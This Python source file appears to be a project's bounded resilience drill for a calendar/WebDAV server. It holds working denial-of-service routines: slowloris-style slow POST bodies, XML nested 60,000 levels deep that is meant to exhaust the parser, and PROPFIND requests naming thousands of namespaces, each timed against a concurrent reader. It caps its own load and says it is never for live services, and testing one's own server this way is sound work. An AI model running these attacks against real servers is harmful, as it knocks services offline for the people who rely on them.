"""What one visitor, or one agent, may send to an installation on trial: bounded, and told in figures.

    python -m tools.drills.attack http://127.0.0.1:8000 slow-bodies
    python -m tools.drills.attack https://essai.example nested-body --path /dav/agenda/1/agendas/ --login … --password …

Each function takes where to send (`Target`) and gives a `Figures`: what another visitor waits for while nothing
happens and while it does, and what was answered to whoever attacks. Never against what serves people.
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import http.client
import json
import socket
import ssl
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field
from urllib.parse import urlsplit

# Bounds of whatever is asked: nobody needs more to see whether it holds.
MOST_AT_ONCE, MOST_SECONDS = 200, 180
XML = "application/xml; charset=utf-8"


@dataclass(frozen=True)
class Target:
    """Where an installation on trial answers; `read`: the address another visitor reads meanwhile."""

    url: str
    host: str = ""
    read: str = "/"
    login: str = ""
    password: str = ""

    @property
    def where(self) -> tuple[str, int]:
        parts = urlsplit(self.url)
        return parts.hostname or "127.0.0.1", parts.port or (443 if parts.scheme == "https" else 80)

    @property
    def name(self) -> str:
        return self.host or urlsplit(self.url).netloc

    def connect(self, patience: float = 30) -> socket.socket:
        """A connection, encrypted if the address is; the certificate of a trial is nobody's."""
        plain = socket.create_connection(self.where, timeout=patience)
        if urlsplit(self.url).scheme != "https":
            return plain
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        return context.wrap_socket(plain, server_hostname=self.name.partition(":")[0])

    def ask(
        self, method: str, path: str, body: bytes | None = None, *, patience: float = 60, **headers: str
    ) -> tuple[int, bytes]:
        """One request on a connection of its own; its status and what was answered. Raises `OSError`."""
        if self.login:
            secret = base64.b64encode(f"{self.login}:{self.password}".encode()).decode()
            headers["Authorization"] = f"Basic {secret}"
        link = http.client.HTTPConnection(*self.where)
        link.sock = self.connect(patience)
        with contextlib.closing(link):
            told = {name.replace("_", "-"): value for name, value in headers.items()}
            link.request(method, path, body, {"Host": self.name, **told})
            answer = link.getresponse()
            return answer.status, answer.read()


@dataclass
class Figures:
    """What came of one attack, in seconds."""

    attack: str
    quiet_p95: float = 0.0
    p95: float = 0.0
    asked: int = 0
    failed: int = 0
    took: float = 0.0
    # What was answered to whoever attacks: a status, or why there was none.
    answers: dict[str, int] = field(default_factory=dict)

    @property
    def slowdown(self) -> float:
        """How many times longer another visitor waited."""
        return self.p95 / self.quiet_p95 if self.quiet_p95 else 0.0


def p95(seconds: list[float]) -> float:
    """The time within which nineteen of twenty are answered."""
    ordered = sorted(seconds)
    return ordered[min(len(ordered) - 1, int(len(ordered) * 0.95))] if ordered else 0.0


class Visitor:
    """Somebody who reads one page after the other, twenty a second at most, and notes how long each takes."""

    def __init__(self, target: Target, *, patience: float = 10) -> None:
        self._target, self._patience = target, patience
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._read)
        self.seconds: list[float] = []
        self.failed = 0

    def __enter__(self) -> Visitor:
        self._thread.start()
        return self

    def __exit__(self, *error: object) -> None:
        self._stop.set()
        self._thread.join(self._patience * 2)

    def _read(self) -> None:
        while not self._stop.wait(0.05):
            before = time.monotonic()
            try:
                status, _ = self._target.ask("GET", self._target.read, patience=self._patience)
                self.failed += status >= 500
            except (OSError, http.client.HTTPException):
                self.failed += 1
            self.seconds.append(time.monotonic() - before)


def _quiet(target: Target, seconds: float = 3) -> float:
    with Visitor(target) as visitor:
        time.sleep(seconds)
    return p95(visitor.seconds)


def measured(name: str, target: Target, act: Callable[[], Counter[str]]) -> Figures:
    """Read while nothing happens, then while `act` does."""
    quiet = _quiet(target)
    before = time.monotonic()
    with Visitor(target) as visitor:
        answers = act()
    took = time.monotonic() - before
    return Figures(
        name, quiet, p95(visitor.seconds), len(visitor.seconds), visitor.failed, took, dict(sorted(answers.items()))
    )


def slow_bodies(
    target: Target, *, count: int = 34, seconds: float = 30, every: float = 2, announced: int = 1000, path: str = "/"
) -> Figures:
    """So many forms at once, a byte of each every two seconds: more than the platform has threads."""
    return measured("slow-bodies", target, lambda: _drip(target, count, seconds, every, announced=announced, path=path))


def _drip(target: Target, count: int, seconds: float, every: float, *, announced: int, path: str) -> Counter[str]:
    said = f"POST {path} HTTP/1.1\r\nHost: {target.name}\r\nContent-Length: {announced}\r\n\r\nx".encode()
    ends = time.monotonic() + min(seconds, MOST_SECONDS)
    answers: Counter[str] = Counter()
    lines = []
    for _ in range(min(count, MOST_AT_ONCE)):
        with contextlib.suppress(OSError):
            lines.append(target.connect())
            lines[-1].sendall(said)
    while lines and time.monotonic() < ends:
        for line in lines[:]:
            told = _told(line)
            if told is None:
                with contextlib.suppress(OSError):
                    line.sendall(b"x")
                    continue
            answers[told or "closed"] += 1
            line.close()
            lines.remove(line)
        time.sleep(every)
    answers["held to the end"] += len(lines)
    for line in lines:
        line.close()
    return +answers


def _told(line: socket.socket) -> str | None:
    """The status that came, if any; "" when the other side closed."""
    line.settimeout(0.001)
    try:
        return line.recv(4096).decode("latin-1").partition("\r\n")[0][9:12]
    except (TimeoutError, ssl.SSLWantReadError):
        return None
    except OSError:
        return ""
    finally:
        with contextlib.suppress(OSError):
            line.settimeout(30)


def _sent(target: Target, method: str, path: str, bodies: Iterator[bytes], **headers: str) -> Counter[str]:
    answers: Counter[str] = Counter()
    for body in bodies:
        try:
            status, _ = target.ask(method, path, body, **{"Content_Type": XML, **headers})
            answers[str(status)] += 1
        except (OSError, http.client.HTTPException) as failure:
            answers[type(failure).__name__] += 1
    return answers


def nested(depth: int, method: str = "PROPFIND") -> bytes:
    """A request of a calendar as deep as asked."""
    root = {"PROPFIND": "propfind", "PROPPATCH": "propertyupdate", "REPORT": "calendar-multiget"}.get(method, "mkcol")
    return f'<{root} xmlns="DAV:">'.encode() + b"<prop>" * depth + b"</prop>" * depth + f"</{root}>".encode()


def nested_body(target: Target, path: str, *, depth: int = 60_000, times: int = 2, method: str = "PROPFIND") -> Figures:
    """A calendar's request nested so deep that who reads it dies of it, with the password of any device."""
    # As heavy as it is deep, then within what may be weighed.
    bodies = (nested(one, method) for one in [depth, 15_000] * min(times, 10))
    return measured("nested-body", target, lambda: _sent(target, method, path, bodies, Depth="0"))


def many_properties(target: Target, path: str, *, count: int = 10_000, times: int = 2) -> Figures:
    """A drive asked for properties by the thousand, each of a namespace of its own."""
    named = "".join(f'<p xmlns="u:{rank}"/>' for rank in range(min(count, 24_000)))
    body = f'<propfind xmlns="DAV:"><prop>{named}</prop></propfind>'.encode()
    bodies = (body for _ in range(min(times, 5)))
    return measured("many-properties", target, lambda: _sent(target, "PROPFIND", path, bodies, Depth="1"))


ATTACKS: dict[str, Callable[[Target, argparse.Namespace], Figures]] = {
    "slow-bodies": lambda target, asked: slow_bodies(target, seconds=asked.seconds),
    "nested-body": lambda target, asked: nested_body(target, asked.path),
    "many-properties": lambda target, asked: many_properties(target, asked.path),
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("url")
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("--host", default="")
    parser.add_argument("--read", default="/")
    parser.add_argument("--path", default="/")
    parser.add_argument("--login", default="")
    parser.add_argument("--password", default="")
    parser.add_argument("--seconds", type=float, default=30)
    asked = parser.parse_args()
    target = Target(asked.url, asked.host, asked.read, asked.login, asked.password)
    figures = ATTACKS[asked.attack](target, asked)
    print(json.dumps({**asdict(figures), "slowdown": round(figures.slowdown, 1)}))


if __name__ == "__main__":
    main()
